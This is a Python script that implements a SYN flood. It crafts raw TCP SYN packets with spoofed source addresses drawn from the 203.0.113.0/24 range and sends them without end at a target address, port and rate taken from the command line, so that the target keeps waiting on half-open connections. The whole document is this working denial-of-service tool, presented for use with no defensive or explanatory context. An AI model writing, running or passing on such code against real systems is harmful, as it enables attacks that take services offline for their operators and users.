"""A program: sends SYNs that nobody goes on with, each from another address of a network that does not exist (TEST-NET-3, RFC 5737).

Arguments: address, port, SYNs a second. The answers find no way back; whoever answers waits for the third segment.
"""
import itertools
import socket
import struct
import sys
import time

address, port, rate = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
with open("/proc/self/comm", "w") as comm:
    comm.write("flood")
# Every so often a few: a busy machine does not wake anybody hundreds of times a second.
TURN = 0.05


def checksum(data):
    total = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def syn(number):
    source = socket.inet_aton("203.0.113.%d" % (1 + number % 250))
    target = socket.inet_aton(address)
    sport = 1024 + number * 7 % 60000
    tcp = struct.pack("!HHIIBBHHH", sport, port, number * 64223 % 2**32, 0, 0x50, 2, 64240, 0, 0)
    sum_ = checksum(source + target + struct.pack("!BBH", 0, 6, len(tcp)) + tcp)
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 40, number & 0xFFFF, 0, 64, 6, 0, source, target)
    return ip + tcp[:16] + struct.pack("!H", sum_) + tcp[18:]


raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
for number in itertools.count():
    try:
        raw.sendto(syn(number), (address, 0))
    except OSError:
        pass
    if number % max(1, round(rate * TURN)) == 0:
        time.sleep(TURN)
